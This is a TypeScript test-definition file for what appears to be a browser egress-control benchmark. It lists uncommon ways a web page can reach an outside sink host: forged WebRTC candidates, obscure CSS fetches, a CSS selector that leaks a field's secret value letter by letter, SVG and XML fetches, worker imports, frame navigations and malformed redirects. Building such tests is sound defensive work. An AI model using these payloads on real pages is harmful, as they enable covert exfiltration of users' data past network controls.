import type { Family } from '../attack.ts';
import { pageAttacks } from '../bench/page-attack.ts';

/** Meets a peer whose only candidate is the sinks' address, so that the browser knocks there by itself. */
const peerAt = (protocol: string) => `<script>(async () => {
  const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
  here.createDataChannel('x');
  await here.setLocalDescription(await here.createOffer());
  await there.setRemoteDescription(here.localDescription);
  await there.setLocalDescription(await there.createAnswer());
  await here.setRemoteDescription(there.localDescription);
  await here.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 ${protocol}' });
})()</script>`;
const xml = (text: string) => ({ headers: { 'content-type': 'text/xml' }, body: text });

/** Roads that the catalogue does not have. */
export const egressUncommon: Family = {
  group: 'egress',
  rows: {
    'NET-102': 'WebRTC to a peer that the page makes up',
    'NET-103': 'style sheet properties that few people know to fetch',
    'NET-104': 'attributes of old documents',
    'NET-105': 'SVG and XML that fetch',
    'NET-106': 'interfaces of scripts that fetch on the side',
    'NET-107': 'navigations by other interfaces',
    'NET-108': 'answers that send a browser on in other ways',
  },
  attacks: pageAttacks([
    {
      id: 'NET-102a',
      technique: 'a peer that is said to be at another address, over UDP',
      mustStop: 'flags',
      page: peerAt('UDP 2122260223 127.0.0.1 SINK_PORT typ host'),
    },
    {
      id: 'NET-102b',
      technique: 'a peer that is said to be behind another address',
      mustStop: 'flags',
      page: peerAt('UDP 1686052607 127.0.0.1 SINK_PORT typ srflx raddr 127.0.0.1 rport 9'),
    },
    {
      id: 'NET-103a',
      technique: 'a pointer of another host',
      page: '<style>html, body { height: 100% } body { cursor: url(SINK/c.png), auto }</style>',
      clicks: true,
    },
    {
      id: 'NET-103b',
      technique: 'marks of a list',
      page: '<style>li { list-style-image: url(SINK/l.png) }</style><ul><li>x</ul>',
    },
    {
      id: 'NET-103c',
      technique: 'a choice of images',
      page: '<style>p { background: image-set("SINK/i.png" 1x) }</style><p>x</p>',
    },
    {
      id: 'NET-103d',
      technique: 'content before an element',
      page: '<style>p::before { content: url(SINK/b.png) }</style><p>x</p>',
    },
    {
      id: 'NET-103e',
      technique: 'an image of a border',
      page: '<style>p { border: 9px solid; border-image: url(SINK/b.png) 9 }</style><p>x</p>',
    },
    {
      id: 'NET-103f',
      technique: 'a letter at a time, by what a field holds',
      page: '<style>input[value^="s"] { background: url(SINK/s.png) }</style><input value="secret">',
    },
    {
      id: 'NET-103g',
      technique: 'a shape that text flows around',
      page: '<style>p { float: left; width: 9px; height: 9px; shape-outside: url(SINK/s.png) }</style><p>x</p>',
    },
    { id: 'NET-104a', technique: 'background of a body', page: '<body background="SINK/b.png">x</body>' },
    {
      id: 'NET-104b',
      technique: 'background of a table',
      page: '<table background="SINK/t.png"><tr><td>x</table>',
    },
    {
      id: 'NET-105a',
      technique: 'an image whose address is animated in',
      page: '<svg><image width="9" height="9"><set attributeName="href" to="SINK/a.png"/></image></svg>',
    },
    {
      id: 'NET-105b',
      technique: 'a script of an SVG',
      page: '<svg><script href="SINK/s.js"></script></svg>',
    },
    {
      id: 'NET-105c',
      technique: 'a style sheet of an XML document',
      page: '<iframe src="/doc.xml"></iframe>',
      files: { '/doc.xml': xml('<?xml-stylesheet href="SINK/s.css" type="text/css"?><a/>') },
    },
    {
      id: 'NET-106a',
      technique: 'a font that a script loads',
      page: '<script>new FontFace("x", "url(SINK/f.woff)").load().catch(() => {})</script>',
    },
    {
      id: 'NET-106b',
      technique: 'a sound that a script makes',
      page: '<script>new Audio("SINK/a.mp3").load()</script>',
    },
    {
      id: 'NET-106c',
      technique: 'JSON that is imported as a module',
      page: '<script type="module">import("SINK/x.json", { with: { type: "json" } }).catch(() => {})</script>',
    },
    {
      id: 'NET-106d',
      technique: 'a style sheet that is imported as a module',
      page: '<script type="module">import("SINK/x.css", { with: { type: "css" } }).catch(() => {})</script>',
    },
    {
      id: 'NET-106e',
      technique: 'a stream of a WebSocket',
      page: '<script>new WebSocketStream("ws://SINK_HOST/s").opened.catch(() => {})</script>',
    },
    {
      id: 'NET-106f',
      technique: 'a stream of events of a worker',
      page: '<script>new Worker(URL.createObjectURL(new Blob([`new EventSource("SINK/e")`])))</script>',
    },
    {
      id: 'NET-106g',
      technique: 'an image that a template was cloned into another document of',
      page: '<template><img src="SINK/t.png"></template><script>document.documentElement.append(document.importNode(document.querySelector("template").content, true))</script>',
    },
    {
      id: 'NET-107a',
      technique: 'navigation.navigate',
      page: '<script>navigation.navigate("SINK/n")</script>',
    },
    {
      id: 'NET-107b',
      technique: 'a frame that takes the whole window elsewhere',
      page: '<iframe srcdoc="<script>top.location = \'SINK/t\'</script>"></iframe>',
    },
    {
      id: 'NET-107c',
      technique: 'a form of a frame that is sent into the whole window',
      page: '<iframe srcdoc="<form target=_top action=SINK/f></form><script>document.forms[0].submit()</script>"></iframe>',
    },
    {
      id: 'NET-107d',
      technique: 'a frame without credentials',
      page: '<iframe credentialless src="SINK/f"></iframe>',
    },
    {
      id: 'NET-108a',
      technique: 'a redirect whose address has a line feed in it',
      page: '<img src="/go">',
      files: { '/go': { status: 302, headers: { location: 'ht\ttp://SINK_HOST/r' } } },
    },
    {
      id: 'NET-108b',
      technique: 'a redirect to a user name that is the listed host',
      page: '<script>location = "/go"</script>',
      files: { '/go': { status: 302, headers: { location: 'http://127.0.0.1@SINK_HOST/r' } } },
    },
    {
      id: 'NET-108c',
      technique: 'a redirect with backslashes',
      page: '<img src="/go">',
      files: { '/go': { status: 302, headers: { location: '/\\\\SINK_HOST/r' } } },
    },
    {
      id: 'NET-108d',
      technique: 'a redirect of a script that a worker imports',
      page: '<script>new Worker(URL.createObjectURL(new Blob([`importScripts("LURE/go")`])))</script>',
      files: { '/go': { status: 302, headers: { location: 'SINK/w.js' } } },
    },
    {
      id: 'NET-108e',
      technique: 'a refresh in a header, with a redirect first',
      page: '<iframe src="/go"></iframe>',
      files: {
        '/go': { status: 302, headers: { location: '/then' } },
        '/then': { headers: { refresh: '0; url=SINK/r' }, body: 'x' },
      },
    },
  ]),
  elsewhere: {},
};
